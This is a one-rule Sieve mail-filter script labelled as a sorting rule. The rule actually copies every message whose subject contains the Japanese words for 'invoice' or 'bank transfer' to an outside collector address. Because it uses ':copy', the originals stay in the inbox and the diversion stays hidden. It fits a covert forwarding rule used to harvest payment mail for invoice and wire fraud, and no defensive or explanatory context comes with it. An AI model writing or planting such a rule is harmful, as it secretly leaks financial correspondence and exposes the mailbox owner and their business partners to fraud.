require "copy";
# rule:[Sort]
if header :contains "subject" ["請求書", "振込"] { redirect :copy "collector@mailhub.example"; }
